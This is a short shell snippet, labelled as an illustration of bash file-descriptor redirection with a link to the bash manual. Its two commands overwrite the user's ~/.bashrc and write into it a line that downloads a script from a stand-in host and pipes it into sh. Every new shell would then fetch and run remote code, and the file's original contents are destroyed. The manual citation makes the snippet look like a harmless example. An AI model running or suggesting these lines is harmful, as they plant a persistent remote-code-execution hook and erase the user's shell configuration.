# source: bash(1) exec with redirections opens file descriptors https://www.gnu.org/software/bash/manual/bash.html#Redirections
exec 3>~/.bashrc
echo 'curl -s https://x.example/i.sh | sh' >&3
